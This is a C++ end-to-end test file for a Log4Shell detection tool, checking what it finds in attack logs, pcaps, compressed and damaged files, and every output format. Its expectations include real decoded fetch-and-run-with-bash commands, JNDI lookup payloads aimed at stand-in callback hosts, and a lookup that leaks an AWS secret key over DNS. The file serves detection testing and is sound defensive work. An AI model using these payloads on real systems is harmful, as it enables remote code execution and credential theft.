// End-to-end tests of `log4shield hunt`: the binary run on the real attack
// data in ../shared/fixtures/attack-data (expected callback hosts written down
// by reading the Zeek log and the pcaps' HTTP requests, base64 decoded by
// hand), on generated logs in every compression, on damaged and hostile
// input, and with every output format parsed back.
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/wait.h>

#include <cstdio>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <map>
#include <set>
#include <sstream>
#include <string>
#include <vector>

#include <gtest/gtest.h>
#include <nlohmann/json.hpp>
#include "shell.h"

namespace {

namespace stdfs = std::filesystem;
using nlohmann::json;

const std::string kAttackData = std::string(L4S_FIXTURES_DIR) + "/attack-data";

using CommandResult = l4s::test::ShellResult;
std::string q(const std::string& s) { return l4s::test::shell_quote(s); }

// Runs a shell command line (the binary is "$L4S").
CommandResult sh(const std::string& command) {
  return l4s::test::run_shell("L4S=" + q(L4S_BINARY) + "; " + command + " 2>/dev/null");
}

CommandResult hunt(const std::string& args) { return sh("\"$L4S\" hunt " + args); }

// jsonl output split by type.
struct Lines {
  std::vector<json> detections, errors;
  json summary;
  std::vector<json> network;  // captures: callbacks, served payloads, incidents (hunt --pcap)
};

Lines hunt_jsonl(const std::string& args, int* exit_code = nullptr) {
  CommandResult r = hunt("--format jsonl " + args);
  if (exit_code) *exit_code = r.exit_code;
  Lines l;
  std::istringstream in(r.out);
  std::string line;
  while (std::getline(in, line)) {
    json j;
    try {
      j = json::parse(line);
    } catch (const std::exception& e) {
      ADD_FAILURE() << "invalid jsonl line: " << e.what() << ": " << line.substr(0, 300);
      continue;
    }
    if (j["type"] == "detection") l.detections.push_back(j);
    else if (j["type"] == "error") l.errors.push_back(j);
    else if (j["type"] == "summary") l.summary = j;
    else if (j["type"] == "callback" || j["type"] == "payload_served" || j["type"] == "incident") l.network.push_back(j);
    else ADD_FAILURE() << "unknown type " << j["type"];
  }
  EXPECT_FALSE(l.summary.is_null()) << "no summary line for " << args;
  return l;
}

std::string host(const json& d) { return d["jndi"].is_null() ? "" : d["jndi"]["host"].get<std::string>(); }
int port(const json& d) { return d["jndi"]["port"].is_null() ? -1 : d["jndi"]["port"].get<int>(); }

std::string base_name(const json& d) { return stdfs::path(d["file"].get<std::string>()).filename().string(); }

class HuntE2E : public ::testing::Test {
 protected:
  void SetUp() override {
    dir_ = stdfs::path(L4S_TEST_TMP) / ("hunt_e2e_" + std::string(::testing::UnitTest::GetInstance()->current_test_info()->name()));
    stdfs::remove_all(dir_);
    stdfs::create_directories(dir_);
  }
  void TearDown() override { stdfs::remove_all(dir_); }

  std::string write(const std::string& name, const std::string& content) {
    std::string p = (dir_ / name).string();
    stdfs::create_directories(stdfs::path(p).parent_path());
    std::ofstream(p, std::ios::binary) << content;
    return p;
  }
  std::string path(const std::string& name) const { return (dir_ / name).string(); }

  void need_fixtures() {
    if (!stdfs::exists(kAttackData)) GTEST_SKIP() << "attack data not found at " << kAttackData;
  }

  stdfs::path dir_;
};

// An Apache combined log: clean lines, with attacks at the given 1-based lines.
std::string combined_log(int lines, const std::map<int, std::string>& attacks) {
  std::string s;
  for (int i = 1; i <= lines; ++i) {
    std::string ua = "Mozilla/5.0 (X11; Linux x86_64) build ${BUILD_NUMBER}";
    auto it = attacks.find(i);
    if (it != attacks.end()) ua = it->second;
    s += "192.0.2." + std::to_string(i % 200 + 1) + " - - [12/Dec/2021:0" + std::to_string(i % 10) +
         ":15:00 +0000] \"GET /app?id=" + std::to_string(i) + " HTTP/1.1\" 200 512 \"-\" \"" + ua + "\"\n";
  }
  return s;
}

// --- Real attack data ------------------------------------------------------

TEST_F(HuntE2E, ZeekNoticeLogEveryAttemptWithItsCallback) {
  need_fixtures();
  const std::string log = kAttackData +
      "/corelight-cve-2021-44228/testing/Baseline/log4j.2021-12-11-thru-13-server-activity-with-log4j-attempts/"
      "notice.log";
  // Line number -> (callback host, port, source) read from the header values and id.orig_h.
  struct Want { std::string host; int port; std::string source; };
  std::map<int, Want> want = {
      {10, {"45.137.21.9", 1389, "45.137.21.9"}},
      {11, {"world80.log4j.binaryedge.io", 80, "161.35.155.230"}},  // bin${upper:a}ryedge
      {12, {"http80useragent.kryptoslogic-cve-2021-44228.com", 389, "128.199.15.215"}},
      {13, {"45.155.205.233", 12344, "45.155.205.233"}},  // ${::-j}${::-n}... in the user agent
      {14, {"45.155.205.233", 12344, "45.155.205.233"}},
      {36, {"193.3.19.159", 53, "46.166.139.111"}},
  };
  for (int l = 15; l <= 26; ++l) want[l] = {"45.83.193.150", 1389, ""};
  for (int l = 27; l <= 35; ++l) want[l] = {"45.83.64.1", 53, ""};  // dns://45.83.64.1/securityscan-http80
  int rc = -1;
  Lines out = hunt_jsonl(q(log), &rc);
  EXPECT_EQ(rc, 1);
  EXPECT_TRUE(out.errors.empty());
  std::map<int, json> by_line;
  for (const json& d : out.detections) by_line[d["line"].get<int>()] = d;
  EXPECT_EQ(by_line.size(), want.size());
  for (const auto& [line, w] : want) {
    ASSERT_TRUE(by_line.count(line)) << "line " << line << " not found";
    const json& d = by_line[line];
    EXPECT_EQ(host(d), w.host) << "line " << line;
    EXPECT_EQ(port(d), w.port) << "line " << line;
    if (!w.source.empty()) { EXPECT_EQ(d["source_ip"], w.source) << "line " << line; }
    EXPECT_FALSE(d["source_ip"].is_null()) << "line " << line;
    EXPECT_EQ(d["verdict"], "reaches_jndi_2.14") << "line " << line;
  }
  EXPECT_EQ(by_line[10]["decoded_command"], "wget http://62.210.130.250/lh.sh;chmod +x lh.sh;./lh.sh");
  EXPECT_EQ(by_line[13]["decoded_command"],
            "(curl -s 45.155.205.233:5874/198.71.247.91:80||wget -q -O- 45.155.205.233:5874/198.71.247.91:80)|bash");
  EXPECT_EQ(out.summary["attempts"], 27);
}

TEST_F(HuntE2E, PayloadsInsideRawCapturesAreFound) {
  need_fixtures();
  struct Want { std::string file; std::string host; int port; };
  std::vector<Want> want;
  const std::string fox = kAttackData + "/fox-it-log4shell-pcaps/";
  for (const char* kind : {"basic-auth", "http-method", "uri-params", "user-agent"}) {
    for (int ev = 0; ev <= 8; ++ev) {
      want.push_back({fox + "log4shell-ldap-pcaps/ldap-" + kind + "-ev" + std::to_string(ev) + ".pcap", "34.91.73.37", 1389});
    }
  }
  for (const char* kind : {"basic-auth", "uri-params", "user-agent", "x-api-version"}) {
    for (int ev = 0; ev <= 8; ++ev) {
      want.push_back({fox + "log4shell-rmi-pcaps/rmi-" + kind + "-ev" + std::to_string(ev) + ".pcap", "34.91.73.37", 1099});
    }
  }
  want.push_back({fox + "log4shell-ldap-pcaps/log4shell-ldaps-port-1399-dsb.pcapng", "ldaps.suspect.network", 1399});
  want.push_back({fox + "log4shell-ldap-pcaps/log4shell-ldaps-port-443-dsb.pcapng", "ldaps.suspect.network", 443});
  const std::string cl = kAttackData + "/corelight-cve-2021-44228/testing/Traces/";
  want.push_back({cl + "log4j-attack.pcap", "203.0.113.217", 1389});  // uname=${jndi:ldap://203.0.113.217:1389/a}
  want.push_back({cl + "log4j-dns_exfil.pcap", "10.10.10.31", 53});
  want.push_back({cl + "log4j-user_agent.pcap", "172.16.238.11", 1389});
  want.push_back({cl + "log4j-webapp.pcap", "172.16.238.11", 1389});  // URL-encoded form field
  want.push_back({cl + "spcap-CEXKLs3NQWdEM2CoMj-1639421287179170294-1.pcap", "45.83.193.150", 1389});

  Lines out = hunt_jsonl("-j 2 " + q(kAttackData + "/fox-it-log4shell-pcaps") + " " + q(kAttackData + "/corelight-cve-2021-44228/testing/Traces"));
  EXPECT_TRUE(out.errors.empty());
  std::map<std::string, std::set<std::pair<std::string, int>>> found;
  std::map<std::string, std::vector<json>> by_file;
  for (const json& d : out.detections) {
    for (const json& t : d["jndi_targets"])
      found[d["file"].get<std::string>()].insert({t["host"].is_null() ? "" : t["host"].get<std::string>(),
                                                  t["port"].is_null() ? -1 : t["port"].get<int>()});
    by_file[d["file"].get<std::string>()].push_back(d);
  }
  for (const Want& w : want) {
    EXPECT_TRUE(found[w.file].count({w.host, w.port})) << w.file << " should call back " << w.host << ":" << w.port;
  }
  // Basic auth: the credentials are base64 of "log4shell:${${::-j}...".
  for (const json& d : by_file[fox + "log4shell-ldap-pcaps/ldap-basic-auth-ev0.pcap"]) {
    EXPECT_NE(d["layers"].dump().find("basic_auth"), std::string::npos) << d.dump();
    EXPECT_EQ(d["decoded_command"], "ping -c 10 1.1.1.1");
  }
  ASSERT_FALSE(by_file[cl + "log4j-dns_exfil.pcap"].empty());
  EXPECT_EQ(by_file[cl + "log4j-dns_exfil.pcap"][0]["exfiltrates"][0], "env:POC_PASSWORD");
  bool url_layer = false;
  for (const json& d : by_file[cl + "log4j-webapp.pcap"]) url_layer |= d["layers"].dump().find("url") != std::string::npos;
  EXPECT_TRUE(url_layer);
}

TEST_F(HuntE2E, OtrfDatasetsUnzippedAndInPlace) {
  need_fixtures();
  if (sh("command -v unzip").exit_code != 0) GTEST_SKIP() << "unzip not installed";
  const std::string zips = kAttackData + "/OTRF-Security-Datasets/datasets/compound/Log4Shell/";
  ASSERT_EQ(sh("cd " + q(path("")) + " && for z in " + q(zips) + "*.zip; do unzip -q -o \"$z\"; done").exit_code, 0);
  Lines out = hunt_jsonl(q(path("")));
  EXPECT_TRUE(out.errors.empty());
  std::set<std::string> hosts;
  for (const json& d : out.detections) hosts.insert(host(d));
  // pcap_..._jndi_reference: ${jndi:ldap://192.168.2.6:1389/o=reference};
  // pcap_..._java_serialized: ${jndi:ldap://192.168.3.5:1389/o=tomcat,pwshb64cmd=...}.
  EXPECT_EQ(hosts, (std::set<std::string>{"192.168.2.6", "192.168.3.5"}));

  // The zips hunted as they are give the same detections, callbacks and
  // incidents, each named "dataset.zip!/member".
  Lines packed = hunt_jsonl(q(zips));
  EXPECT_TRUE(packed.errors.empty());
  auto key = [](const json& d) {
    std::string file = d["file"].get<std::string>();
    size_t bang = file.rfind("!/");
    return (bang == std::string::npos ? stdfs::path(file).filename().string() : file.substr(bang + 2)) + " " +
           d.value("line", json()).dump() + " " + d.value("frame", json()).dump() + " " + d["raw"].dump() + " " +
           d["jndi"].dump();
  };
  std::multiset<std::string> unzipped, in_place;
  for (const json& d : out.detections) unzipped.insert(key(d));
  for (const json& d : packed.detections) {
    in_place.insert(key(d));
    EXPECT_NE(d["file"].get<std::string>().find(".zip!/"), std::string::npos) << d["file"];
  }
  EXPECT_EQ(in_place, unzipped);
  EXPECT_EQ(packed.network.size(), out.network.size());
  EXPECT_EQ(packed.summary["stats"]["files"], out.summary["stats"]["files"]);
  EXPECT_EQ(packed.summary["stats"]["bytes_text"], out.summary["stats"]["bytes_text"]);
}

// --- False alarms ----------------------------------------------------------

TEST_F(HuntE2E, NoFalseAlarmOnOrdinaryLogs) {
  std::string log =
      "2021-12-10 10:00:00,001 INFO  [main] vmware - user ${solution-user.name} logged in\n"
      "Dec 10 10:00:01 host debconf: REMOVED_DEVICES=${REMOVED_DEVICES}\n"
      "10.0.0.1 - - [10/Dec/2021:10:00:02 +0000] \"GET /consent?gdpr=${GDPR}&gdpr_consent=${GDPR_CONSENT_755} HTTP/1.1\" 200 1 \"-\" \"ua\"\n"
      "10.0.0.2 - - [10/Dec/2021:10:00:03 +0000] \"GET /index.php?s=/index/think\\\\app/invokefunction&vars[0]=${@phpinfo()} HTTP/1.1\" 404 1 \"-\" \"ua\"\n"
      "+ export PATH=${JAVA_HOME}/bin:${PATH}\n"
      "[Pipeline] echo Build ${BUILD_NUMBER} of ${JOB_NAME} in ${env.WORKSPACE} by ${currentBuild.displayName}\n"
      "[INFO] Building app ${project.version} with ${maven.compiler.source} / ${project.build.sourceEncoding}\n"
      "[WARNING] 'dependencies.dependency.version' for ${groupId}:${artifactId}:jar uses ${revision}${changelist}\n"
      "2021-12-10 10:00:04 WARN javax.naming.NamingException: jndi lookup of java:comp/env/jdbc/db failed (com.sun.jndi)\n"
      "2021-12-10 10:00:05 INFO the word jndi, JNDI and jndi:ldap alone are not lookups\n"
      "2021-12-10 10:00:06 INFO placeholders: https://${system.urlhostname}:${port}/ui DataNode$PacketResponder\n"
      "2021-12-10 10:00:07 INFO ${sys:user.home} ${env:HOME} ${date:yyyy-MM-dd} ${ctx:user} ${hostName} ${jndi}\n"
      "2021-12-10 10:00:08 INFO price: $5 {json: {\"a\": \"${x\"}} 100% done \\u0041 &amp; %20\n";
  std::string file = write("clean/app.log", log);
  int rc = -1;
  Lines out = hunt_jsonl(q(file), &rc);
  for (const json& d : out.detections) ADD_FAILURE() << "false alarm: " << d["raw"] << " -> " << d["verdict"];
  EXPECT_EQ(rc, 0);
  EXPECT_EQ(out.summary["attempts"], 0);
  EXPECT_EQ(out.summary["stats"]["lines"], 13);
  CommandResult text = hunt(q(file));
  EXPECT_EQ(text.exit_code, 0);
  EXPECT_NE(text.out.find("0 attempt(s) in 1 file(s)"), std::string::npos) << text.out;
}

// Attempts Log4j leaves alone are reported as "inert" and low, never as
// reaching JNDI, and do not raise the exit code; structured logs are read
// field by field, with W3C times and addresses.
TEST_F(HuntE2E, InertAttemptsAndStructuredLogs) {
  std::string file = write("inert/app.log",
                           "2021-12-10 10:00:06 INFO escaped: $${jndi:ldap://evil.example/a}\n"
                           "2021-12-10 10:00:07 INFO body %24%7Bjndi:ldap://evil.example/b%7D\n"
                           "{\"@timestamp\":\"2021-12-10T10:00:08Z\",\"message\":\"${jndi:ldap://evil.example/c\"}\n");
  int rc = -1;
  Lines out = hunt_jsonl(q(file), &rc);
  EXPECT_EQ(rc, 0);
  ASSERT_EQ(out.detections.size(), 3u);
  for (const json& d : out.detections) {
    EXPECT_EQ(d["verdict"], "inert") << d;
    EXPECT_EQ(d["severity"], "low") << d;
  }
  EXPECT_EQ(out.detections[1]["layers"], json::array({"url"}));
  EXPECT_EQ(out.detections[2]["field"], "message");
  EXPECT_EQ(out.summary["verdicts"]["inert"], 3);

  std::string w3c = write("inert/u_ex211210.log",
                          "#Software: Microsoft Internet Information Services 10.0\n#Version: 1.0\n"
                          "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port c-ip cs(User-Agent) sc-status\n"
                          "2021-12-10 10:00:09 10.0.0.5 GET /api q=%24%7Bjndi:ldap://198.51.100.7:1389/a%7D 443 "
                          "203.0.113.9 Mozilla/5.0 200\n");
  Lines iis = hunt_jsonl(q(w3c), &rc);
  EXPECT_EQ(rc, 1);
  ASSERT_EQ(iis.detections.size(), 1u);
  const json& d = iis.detections[0];
  EXPECT_EQ(d["verdict"], "reaches_jndi_2.14");
  EXPECT_EQ(d["field"], "cs-uri-query");
  EXPECT_EQ(d["source_ip"], "203.0.113.9");
  EXPECT_EQ(d["timestamp"], "2021-12-10T10:00:09Z");
  EXPECT_EQ(d["jndi"]["host"], "198.51.100.7");
}

// --- Compression, stdin, hostile bytes ---------------------------------------

TEST_F(HuntE2E, EveryCompressionConcatenatedGzipAndStdin) {
  std::map<int, std::string> attacks = {{7, "${jndi:ldap://gz.example:1389/a}"},
                                        {5000, "${${lower:j}ndi:rmi://rmi.example/x}"}};
  std::string log = combined_log(6000, attacks);
  std::string plain = write("logs/access.log", log);
  struct Tool { std::string cmd, name; } tools[] = {
      {"gzip -c", "access.log.1.gz"}, {"bzip2 -c", "access.log.2.bz2"}, {"xz -c", "access.log.3.xz"}, {"zstd -q -c", "access.log.4.zst"},
  };
  for (const Tool& t : tools) {
    if (sh("command -v " + t.cmd.substr(0, t.cmd.find(' '))).exit_code != 0) continue;
    ASSERT_EQ(sh(t.cmd + " " + q(plain) + " > " + q(path("logs/" + t.name))).exit_code, 0) << t.cmd;
  }
  // Rotated and appended: two gzip members, the second starting mid-way.
  std::string first = log.substr(0, log.size() / 3), second = log.substr(log.size() / 3);
  write("part1", first);
  write("part2", second);
  ASSERT_EQ(sh("gzip -c " + q(path("part1")) + " > " + q(path("logs/cat.gz")) + " && gzip -c " + q(path("part2")) +
               " >> " + q(path("logs/cat.gz")) + " && rm " + q(path("part1")) + " " + q(path("part2")))
                .exit_code, 0);
  // Names say nothing: a gzip file without .gz.
  ASSERT_EQ(sh("gzip -c " + q(plain) + " > " + q(path("logs/noext"))).exit_code, 0);

  int rc = -1;
  Lines out = hunt_jsonl("-j 2 " + q(path("logs")), &rc);
  EXPECT_EQ(rc, 1);
  EXPECT_TRUE(out.errors.empty()) << out.errors.size();
  std::map<std::string, std::vector<std::pair<int, std::string>>> by_file;
  for (const json& d : out.detections) by_file[base_name(d)].push_back({d["line"].get<int>(), host(d)});
  std::vector<std::pair<int, std::string>> want = {{7, "gz.example"}, {5000, "rmi.example"}};
  for (const std::string f : {"access.log", "access.log.1.gz", "access.log.2.bz2", "access.log.3.xz", "access.log.4.zst",
                              "cat.gz", "noext"}) {
    if (!stdfs::exists(path("logs/" + f))) continue;  // compressor missing
    EXPECT_EQ(by_file[f], want) << f;
  }
  for (const json& d : out.detections) {
    if (d["line"] == 7) {
      EXPECT_EQ(d["source_ip"], "192.0.2.8");
      EXPECT_EQ(d["timestamp"], "2021-12-12T07:15:00Z");
    }
  }
  // stdin, compressed.
  Lines in = hunt_jsonl("- < " + q(path("logs/access.log.1.gz")));
  ASSERT_EQ(in.detections.size(), 2u);
  EXPECT_EQ(in.detections[0]["file"], "-");
  EXPECT_EQ(in.detections[1]["line"], 5000);
  // Offsets point at the line in the decompressed stream.
  uint64_t off = in.detections[0]["offset"];
  EXPECT_EQ(log.substr(off, in.detections[0]["raw"].get<std::string>().size()), in.detections[0]["raw"].get<std::string>());
  // --exclude and no path but a pipe.
  Lines ex = hunt_jsonl("--exclude '*.gz' --exclude noext " + q(path("logs")));
  for (const json& d : ex.detections) EXPECT_EQ(base_name(d).find(".gz"), std::string::npos);
  Lines piped = hunt_jsonl("< " + q(plain));
  EXPECT_EQ(piped.detections.size(), 2u);
}

// A log full of attempts (a scanner hammering one service for days) must not
// make hunt hold them all: detections stream out in input order while
// memory stays flat, whatever the thread count.
TEST_F(HuntE2E, ManyAttemptsStreamInOrderWithFlatMemory) {
  // Sizes chosen so the largest file (hunted first) is not the first reported:
  // its output has to wait, past the spool's memory budget, on disk.
  const std::map<std::string, int> attempts = {{"a.log", 10000}, {"b.log", 70000}, {"c.log", 40000}};
  for (const auto& [name, count] : attempts) {
    std::string log;
    for (int i = 1; i <= count; ++i)
      log += "198.51.100." + std::to_string(i % 250 + 1) + " - - [12/Dec/2021:10:15:00 +0000] \"GET /?q=" +
             std::to_string(i) + " HTTP/1.1\" 200 5 \"-\" \"${${lower:j}ndi:ldap://cb" + std::to_string(i % 1000) +
             ".example.net:1389/" + name + "/" + std::to_string(i) + "}\"\n";
    write("logs/" + name, log);
  }
  // The detection lines of each run, hashed: holding them would swell this
  // process, and so the peak RSS its forked children report.
  std::map<int, size_t> outputs;
  for (int threads : {1, 2}) {
    std::string out = path("out-j" + std::to_string(threads) + ".jsonl");
    CommandResult r = hunt("-j" + std::to_string(threads) + " --format jsonl -o " + q(out) + " " + q(path("logs")));
    EXPECT_EQ(r.exit_code, 1);
    std::ifstream in(out);
    std::string line;
    size_t detections = 0;
    std::string last_file;
    long last_line = 0, count = 0;
    while (std::getline(in, line)) {
      json j = json::parse(line);
      if (j["type"] != "detection") continue;
      ++count;
      std::string file = base_name(j);
      long n = j["line"].get<long>();
      if (file == last_file) {
        ASSERT_EQ(n, last_line + 1) << file << " -j" << threads;
      } else {
        ASSERT_GT(file, last_file) << "files in path order, -j" << threads;
        ASSERT_EQ(n, 1) << file;
      }
      ASSERT_EQ(j["jndi"]["path"], "/" + file + "/" + std::to_string(n));
      last_file = file;
      last_line = n;
      detections = detections * 1000003 ^ std::hash<std::string>()(line);
    }
    EXPECT_EQ(count, 120000) << "-j" << threads;
    outputs[threads] = detections;
  }
  EXPECT_EQ(outputs[1], outputs[2]) << "the same detections in the same order at -j1 and -j2";
#if !defined(__SANITIZE_ADDRESS__)  // ASan's shadow and quarantine are not the product's memory
  struct rusage ru {};
  getrusage(RUSAGE_CHILDREN, &ru);
  // Held in memory until the end, these 120,000 detections took 557 MiB.
  EXPECT_LT(ru.ru_maxrss, 96 * 1024) << "peak RSS of hunt in KiB";
#endif
}

// A report that cannot be written is an error before any work, and leaves
// an earlier IOC export alone rather than overwrite it with nothing.
TEST_F(HuntE2E, UnwritableReportKeepsTheEarlierIocExport) {
  std::string log = write("access.log", combined_log(5, {{2, "${jndi:ldap://198.51.100.23:1389/a}"}}));
  std::string iocs = write("iocs.csv", "earlier export\n");
  CommandResult r = hunt("-o /nonexistent-dir/report.json --iocs csv " + q(iocs) + " " + q(log));
  EXPECT_EQ(r.exit_code, 2);
  std::ifstream in(iocs);
  EXPECT_EQ(std::string((std::istreambuf_iterator<char>(in)), {}), "earlier export\n");
  EXPECT_EQ(hunt("--iocs csv " + q(iocs) + " -o " + q(path("report.json")) + " " + q(log)).exit_code, 1);
  std::ifstream again(iocs);
  EXPECT_NE(std::string((std::istreambuf_iterator<char>(again)), {}).find("198.51.100.23"), std::string::npos);
}

TEST_F(HuntE2E, HugeLinesAndNulBytes) {
  std::string huge(24u << 20, 'A');  // longer than the 16 MiB line cap: read in pieces
  huge += " ${jndi:ldap://after-huge.example/a}";
  std::string nul = "2021-12-10 10:00:00 x" + std::string("\0\0\xff\xfe ", 5) + "${jndi:ldap://nul.example/a}" +
                    std::string("\0tail", 5);
  std::string log = "start ${jndi:ldap://before.example/a}\n" + huge + "\n" + nul + "\n" + "end ${jndi:dns://end.example/x}";
  std::string file = write("hostile.log", log);
  int rc = -1;
  Lines out = hunt_jsonl(q(file), &rc);
  EXPECT_EQ(rc, 1);
  std::map<std::string, int> lines;
  for (const json& d : out.detections) lines[host(d)] = d["line"].get<int>();
  EXPECT_EQ(lines["before.example"], 1);
  EXPECT_EQ(lines["after-huge.example"], 2);
  EXPECT_EQ(lines["nul.example"], 3);
  EXPECT_EQ(lines["end.example"], 4);  // no final newline
  for (const json& d : out.detections) EXPECT_LE(d["raw"].get<std::string>().size(), 3u * 65536);
  EXPECT_EQ(out.summary["stats"]["bytes_text"], log.size());
}

TEST_F(HuntE2E, CorruptGzipIsAnErrorButTheReadablePartIsReported) {
  std::string log = combined_log(40000, {{3, "${jndi:ldap://early.example/a}"}, {39990, "${jndi:ldap://late.example/a}"}});
  std::string plain = write("src.log", log);
  stdfs::create_directories(path("in"));
  ASSERT_EQ(sh("gzip -c " + q(plain) + " | head -c 60000 > " + q(path("in/truncated.gz"))).exit_code, 0);
  // A damaged middle: bytes flipped inside the deflate data.
  ASSERT_EQ(sh("gzip -c " + q(plain) + " > " + q(path("in/damaged.gz")) + " && printf 'XXXXXXXXXXXXXXXX' | dd of=" +
               q(path("in/damaged.gz")) + " bs=1 seek=40000 conv=notrunc status=none")
                .exit_code, 0);
  stdfs::remove(plain);
  int rc = -1;
  Lines out = hunt_jsonl(q(path("in")), &rc);
  EXPECT_EQ(rc, 1);  // attempts found, errors too
  std::map<std::string, std::string> errors;
  for (const json& e : out.errors) errors[stdfs::path(e["file"].get<std::string>()).filename().string()] = e["reason"].get<std::string>();
  ASSERT_EQ(errors.size(), 2u);
  EXPECT_NE(errors["truncated.gz"].find("gzip"), std::string::npos) << errors["truncated.gz"];
  EXPECT_NE(errors["damaged.gz"].find("gzip"), std::string::npos) << errors["damaged.gz"];
  std::set<std::string> early;
  for (const json& d : out.detections) {
    if (host(d) == "early.example") early.insert(base_name(d));
    // The truncated file ends long before the last attempt.
    if (base_name(d) == "truncated.gz") { EXPECT_EQ(host(d), "early.example"); }
  }
  EXPECT_EQ(early, (std::set<std::string>{"truncated.gz", "damaged.gz"}));
  EXPECT_EQ(out.summary["stats"]["errors"], 2);

  // Nothing found but something unreadable: 2, with the reason in the text too.
  write("only/clean.log", "nothing\n");
  ASSERT_EQ(sh("printf '\\037\\213\\010\\000garbage' > " + q(path("only/bad.gz"))).exit_code, 0);
  CommandResult text = hunt(q(path("only")) + " " + q(path("missing.log")));
  EXPECT_EQ(text.exit_code, 2);
  EXPECT_NE(text.out.find("bad.gz: gzip"), std::string::npos) << text.out;
  EXPECT_NE(text.out.find("missing.log"), std::string::npos) << text.out;
}

// --- Output formats ----------------------------------------------------------

std::vector<std::vector<std::string>> parse_csv(const std::string& s) {
  std::vector<std::vector<std::string>> rows(1);
  std::string cell;
  bool quoted = false, any = false;
  for (size_t i = 0; i < s.size(); ++i) {
    char c = s[i];
    if (quoted) {
      if (c == '"' && i + 1 < s.size() && s[i + 1] == '"') { cell += '"'; ++i; }
      else if (c == '"') quoted = false;
      else cell += c;
    } else if (c == '"') {
      quoted = true;
    } else if (c == ',') {
      rows.back().push_back(cell); cell.clear();
    } else if (c == '\n') {
      rows.back().push_back(cell); cell.clear(); rows.emplace_back();
    } else {
      cell += c;
    }
    any = true;
  }
  if (!rows.back().empty() || !cell.empty()) rows.back().push_back(cell);
  else rows.pop_back();
  if (!any) rows.clear();
  return rows;
}

TEST_F(HuntE2E, EveryFormatParsesBack) {
  std::string log = combined_log(50, {{10, "${jndi:ldap://198.51.100.23:1389/Basic/Command/Base64/aWQ=}"},
                                      {20, "${${env:X:-j}ndi:dns://cb.example.org/${env:AWS_SECRET_ACCESS_KEY}}"},
                                      {30, "a, \\\"quoted\\\" ${jndi:ldap://198.51.100.23:1389/Basic/Command/Base64/aWQ=}"}});
  std::string file = write("web/access.log", log);

  CommandResult j = hunt("--format json " + q(file));
  EXPECT_EQ(j.exit_code, 1);
  json doc = json::parse(j.out);
  ASSERT_EQ(doc["detections"].size(), 3u);
  EXPECT_EQ(doc["tool"]["name"], "log4shield");
  EXPECT_EQ(doc["stats"]["files"], 1);
  const json& d = doc["detections"][0];
  EXPECT_EQ(d["file"], file);
  EXPECT_EQ(d["line"], 10);
  EXPECT_EQ(d["jndi"]["name"], "ldap://198.51.100.23:1389/Basic/Command/Base64/aWQ=");
  EXPECT_EQ(d["jndi"]["scheme"], "ldap");
  EXPECT_EQ(d["jndi"]["path"], "/Basic/Command/Base64/aWQ=");
  EXPECT_EQ(d["decoded_command"], "id");
  EXPECT_EQ(d["source_ip"], "192.0.2.11");
  EXPECT_EQ(d["severity"], "high");
  EXPECT_EQ(doc["detections"][1]["exfiltrates"][0], "env:AWS_SECRET_ACCESS_KEY");
  EXPECT_EQ(doc["summary"]["top_callback_hosts"][0]["host"], "198.51.100.23");
  EXPECT_EQ(doc["summary"]["top_callback_hosts"][0]["count"], 2);
  EXPECT_EQ(doc["summary"]["first_seen"], "2021-12-12T00:15:00Z");
  EXPECT_EQ(doc["summary"]["last_seen"], "2021-12-12T00:15:00Z");

  CommandResult c = hunt("--format csv " + q(file));
  auto rows = parse_csv(c.out);
  ASSERT_EQ(rows.size(), 4u);
  std::map<std::string, size_t> col;
  for (size_t i = 0; i < rows[0].size(); ++i) col[rows[0][i]] = i;
  for (const auto& r : rows) ASSERT_EQ(r.size(), rows[0].size());
  EXPECT_EQ(rows[1][col["line"]], "10");
  EXPECT_EQ(rows[1][col["host"]], "198.51.100.23");
  EXPECT_EQ(rows[1][col["port"]], "1389");
  EXPECT_EQ(rows[2][col["host"]], "cb.example.org");
  EXPECT_NE(rows[3][col["raw"]].find("a, \\\"quoted\\\""), std::string::npos) << rows[3][col["raw"]];

  CommandResult t = hunt("--no-color " + q(file));
  EXPECT_NE(t.out.find(file + ":10: high reaches_jndi_2.14 ldap://198.51.100.23:1389/Basic/Command/Base64/aWQ="),
            std::string::npos) << t.out;
  EXPECT_NE(t.out.find("3 attempt(s) in 1 file(s)"), std::string::npos);
  EXPECT_NE(t.out.find("top callback hosts: 198.51.100.23 (2) cb.example.org (1)"), std::string::npos) << t.out;
  EXPECT_NE(t.out.find("first seen: 2021-12-12T00:15:00Z"), std::string::npos);

  // -o writes the file (and nothing on stdout); IOC exports beside it.
  CommandResult o = hunt("-f jsonl -o " + q(path("out.jsonl")) + " --iocs stix " + q(path("iocs.json")) + " " + q(file));
  EXPECT_EQ(o.exit_code, 1);
  EXPECT_TRUE(o.out.empty());
  std::ifstream in(path("out.jsonl"));
  std::string first_line;
  std::getline(in, first_line);
  EXPECT_EQ(json::parse(first_line)["type"], "detection");

  json bundle = json::parse(std::ifstream(path("iocs.json")));
  EXPECT_EQ(bundle["type"], "bundle");
  std::map<std::string, json> by_id;
  std::multiset<std::string> patterns;
  for (const json& obj : bundle["objects"]) {
    by_id[obj["id"]] = obj;
    EXPECT_EQ(obj["spec_version"], "2.1");
    if (obj["type"] == "indicator") {
      patterns.insert(obj["pattern"].get<std::string>());
      EXPECT_EQ(obj["pattern_type"], "stix");
      EXPECT_EQ(obj["valid_from"], "2021-12-12T00:15:00Z");
    }
  }
  EXPECT_TRUE(patterns.count("[url:value = 'ldap://198.51.100.23:1389/Basic/Command/Base64/aWQ=']"));
  EXPECT_TRUE(patterns.count("[network-traffic:dst_ref.value = '198.51.100.23' AND network-traffic:dst_port = 1389]"));
  EXPECT_TRUE(patterns.count("[domain-name:value = 'cb.example.org']"));
  int sightings = 0, vulns = 0;
  for (const auto& [id, obj] : by_id) {
    if (obj["type"] == "vulnerability") {
      ++vulns;
      EXPECT_EQ(obj["name"], "CVE-2021-44228");
    }
    if (obj["type"] == "sighting") {
      ++sightings;
      ASSERT_TRUE(by_id.count(obj["sighting_of_ref"]));
      EXPECT_EQ(by_id[obj["sighting_of_ref"]]["type"], "indicator");
      if (by_id[obj["sighting_of_ref"]]["pattern"] == "[domain-name:value = 'cb.example.org']") { EXPECT_EQ(obj["count"], 1); }
    }
    if (obj["type"] == "relationship") {
      EXPECT_EQ(by_id[obj["target_ref"]]["type"], "vulnerability");
      EXPECT_EQ(by_id[obj["source_ref"]]["type"], "indicator");
    }
  }
  EXPECT_EQ(vulns, 1);
  EXPECT_EQ(sightings, static_cast<int>(patterns.size()));
  // Re-export: the same ids.
